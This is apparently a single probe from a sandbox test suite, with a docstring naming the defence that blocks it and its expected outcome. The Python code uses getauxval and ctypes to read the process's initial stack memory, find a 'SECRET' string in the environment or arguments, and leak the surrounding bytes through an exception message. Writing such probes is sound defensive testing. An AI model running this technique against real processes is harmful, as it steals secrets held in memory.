"""Reads the stack from where the kernel laid the program's name, for what the process was started with.

Stopped by: a zygote is started with an empty environment and with nothing in its arguments.
Gets: compile_error
Stage: slow
Naive: tells
"""
import ctypes

AT_EXECFN = 31
libc = ctypes.CDLL(None)
libc.getauxval.restype = ctypes.c_ulong
where = libc.getauxval(AT_EXECFN)
page = where & ~0xFFF
raw = ctypes.string_at(page, where - page) + ctypes.string_at(where)
place = raw.find(b"SECRET")
raise RuntimeError(repr(raw[max(0, place - 40) : place + 120]) if place >= 0 else "nothing")
